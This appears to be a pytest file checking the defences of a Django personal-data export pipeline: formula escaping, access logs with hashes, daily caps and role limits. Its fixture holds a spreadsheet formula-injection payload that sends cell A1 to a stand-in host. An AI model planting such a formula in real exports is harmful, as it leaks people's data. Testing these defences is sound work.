"""The one export pipeline: the policy's masking, formula-like cells as text, a title
line, one access-log row with the count and the file's hash, a daily cap on full rows."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tongchou.core.choices import AccessKind
from tongchou.core.exports import Column, export_table
from tongchou.core.models import AccessLog
from tongchou.core.privacy import PersonalKind
from tongchou.registry.models import Person
from tongchou.testing_support import PersonFactory, exported_rows

HOSTILE = '=HYPERLINK("http://x/?"&A1,"点我")'


@pytest.fixture
def hostile(district):
    return PersonFactory(name=HOSTILE, address="+1-2", area=district["grid_a"])


def test_a_formula_typed_as_a_name_is_text_in_xlsx(client_for, hostile):
    response = client_for("community_head").post(reverse("person-export"), {"file_format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (HOSTILE, "+1-2")]
    assert len(cells) == 2 and {c.data_type for c in cells} == {"s"}
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_formula_typed_as_a_name_is_quoted_in_csv(client_for, hostile):
    response = client_for("community_head").post(reverse("person-export"), {"file_format": "csv"})
    rows = exported_rows(response)
    row = next(r for r in rows if HOSTILE in r[0])
    assert row[0] == "'" + HOSTILE and row[3] == "'+1-2"


def test_every_export_names_who_made_it_and_logs_count_and_hash(client_for, people, personas):
    response = client_for("grid_a").post(reverse("person-export"), {"file_format": "csv"})
    data = response.getvalue().decode("utf-8-sig")
    assert data.startswith("导出人：grid_a")
    entry = AccessLog.objects.get()
    assert (entry.actor, entry.kind, entry.row_count) == (personas["grid_a"], "export", 2)
    assert len(entry.sha256) == 64


def test_full_rows_are_capped_per_user_and_day(personas, people, settings, tmp_path):
    settings.EXPORT_FULL_DAILY_ROWS = 5
    actor = personas["command"]
    columns = [Column("身份证号", lambda p: p.id_number, PersonalKind.ID_NUMBER)]

    def export(name):
        return export_table(
            actor=actor,
            columns=columns,
            rows=Person.objects.order_by("id"),
            path=tmp_path / name,
            object_type="registry.person",
            reveal=True,
            reason="报送区疾控中心核对名单",
        )

    assert export("one.csv").row_count == 4
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match="上限"):
        export("two.csv")
    assert not (tmp_path / "two.csv").exists()
    assert AccessLog.objects.filter(kind=AccessKind.EXPORT_FULL).count() == 1


def test_a_role_that_may_not_reveal_cannot_export_in_full(personas, people, tmp_path):
    from django.http import Http404

    with pytest.raises(Http404):
        export_table(
            actor=personas["tracer"],  # a tracer may reveal phones, never ID numbers
            columns=[Column("身份证号", lambda p: p.id_number, PersonalKind.ID_NUMBER)],
            rows=Person.objects.all(),
            path=tmp_path / "x.csv",
            object_type="registry.person",
            reveal=True,
            reason="报送区疾控中心核对名单",
        )
    assert not AccessLog.objects.exists()


def test_exports_are_posted_never_fetched(client_for, people):
    for name in ("person-export", "contact-export", "grid-export", "checkin-export"):
        assert client_for("command").get(reverse(name)).status_code in (404, 405)
    assert not AccessLog.objects.exists()
